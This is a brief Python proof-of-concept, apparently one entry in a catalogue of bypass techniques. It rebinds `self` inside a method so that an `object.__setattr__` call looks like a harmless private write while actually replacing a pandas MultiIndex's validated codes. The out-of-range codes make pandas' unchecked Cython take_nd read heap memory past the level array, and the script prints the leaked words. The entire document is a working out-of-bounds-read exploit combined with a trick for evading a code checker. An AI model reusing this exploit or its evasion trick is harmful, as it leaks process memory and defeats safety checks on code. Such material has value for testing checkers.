# source: CPython object.__setattr__ (generic setattr, no class hook); pandas 1.5.3 MultiIndex._values -> algos.take_nd (Cython, boundscheck off) over MultiIndex._codes
# family: literal-name object.__setattr__(self, "_private", v) accepted as "self._x = v" while "self" is self = other in a plain class's method, so the private write lands on a library object
# goal: replace a MultiIndex's validated codes with out-of-range ones; mi.values reads the heap past the level array (out-of-bounds memory read)
import dataclasses
import numpy as np
import pandas as pd

class Spec:
    def __init__(self, target):
        self.target = target

    def poke(self, v):
        self = self.target
        object.__setattr__(self, "_codes", v)
        return v

levels = pd.Index(np.array([11, 22, 33, 44], dtype=np.int64))
mi = pd.MultiIndex(levels=[levels], codes=[[0, 1, 2, 3]])
Spec(mi).poke([np.arange(0, 40, dtype=np.int64)])
vals = [v[0] for v in mi.values]
print("level holds 4 values; codes 4..39 read past its end:")
print([hex(x & 0xFFFFFFFFFFFFFFFF) for x in vals])
